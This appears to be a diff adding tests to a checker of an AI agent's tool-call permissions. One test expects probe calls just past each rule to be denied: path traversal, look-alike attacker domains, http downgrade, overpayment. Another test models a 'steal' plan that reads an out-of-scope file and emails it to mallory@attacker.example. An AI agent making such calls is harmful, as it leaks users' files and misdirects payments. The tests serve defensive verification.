@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import {
   type AgentAnswer,
+  type AttackPlans,
   checkAgent,
   findLastLink,
   findSubject,
@@ -24,9 +25,9 @@ const CALLS = [
   { tool: 'send_email', args: { to: 'alice@company.example', body: 'x' } },
 ];
 
-async function answer(sentence = 'Mail the file.'): Promise<AgentAnswer> {
+async function answer(sentence = 'Mail the file.', plans: AttackPlans = {}): Promise<AgentAnswer> {
   const system = await readAgentSystem([{ name: 'tools', text: JSON.stringify(TOOLS) }]);
-  return runStudyToRecord(checkAgent(system, { task: { sentence, calls: CALLS, variants: [] } }));
+  return runStudyToRecord(checkAgent(system, { task: { sentence, calls: CALLS, variants: [] }, plans }));
 }
 
 describe('files exported for a user', () => {
@@ -56,6 +57,47 @@ describe('files exported for a user', () => {
       'read_file',
       'send_email',
     ]);
+  });
+
+  it('AGENT-95 tests call what lies just beyond each rule', async () => {
+    const number = { type: 'integer' };
+    const tools = [
+      { name: 'read_file', inputSchema: { properties: { path: text }, required: ['path'] } },
+      { name: 'fetch', inputSchema: { properties: { url: text }, required: ['url'] } },
+      { name: 'pay', inputSchema: { properties: { to: text, amount: number }, required: ['to', 'amount'] } },
+    ];
+    const calls = [
+      { tool: 'read_file', args: { path: '/data/a.txt' } },
+      { tool: 'read_file', args: { path: '/data/b.txt' } },
+      { tool: 'fetch', args: { url: 'https://docs.company.example/guide' } },
+      { tool: 'pay', args: { to: 'ana@company.example', amount: 50 } },
+    ];
+    const system = await readAgentSystem([{ name: 'tools', text: JSON.stringify(tools) }]);
+    const found = await runStudyToRecord(checkAgent(system, { task: { sentence: '', calls, variants: [] } }));
+    const { denied } = listTestedCalls(findSubject(found, 'shapes'));
+    const values = (tool: string, name: string) =>
+      denied.flatMap((one) => (one.tool === tool ? [one.args[name]] : []));
+    expect(values('read_file', 'path')).toEqual(
+      expect.arrayContaining(['/data-other/file.txt', '/data/../other/file.txt']),
+    );
+    expect(values('fetch', 'url')).toEqual(
+      expect.arrayContaining([
+        'https://docs.company.example.attacker.example/guide',
+        'http://docs.company.example/guide',
+      ]),
+    );
+    expect(values('pay', 'amount')).toEqual(expect.arrayContaining([51, -1]));
+    expect(values('pay', 'to')).toEqual(
+      expect.arrayContaining(['ana@company.example.attacker.example', 'ana@other-company.example']),
+    );
+  });
+
+  it('AGENT-51 known gaps leave out the harmless steps of a possible attack, such as reading', async () => {
+    const send = { tool: 'send_email', args: { to: 'mallory@attacker.example', body: 'x' } };
+    const plan = [{ tool: 'read_file', args: { path: '/files/other.txt' } }, send];
+    const found = await answer('Mail the file.', { steal: plan });
+    expect(listTestedCalls(findSubject(found, 'tools')).permitted).toEqual([send]);
+    expect(listTestedCalls(findSubject(found, 'shapes')).permitted).toEqual([]);
   });
 
   it.each(TAKEAWAY_FORMATS)('the exported file %s is deterministic text', async (format) => {
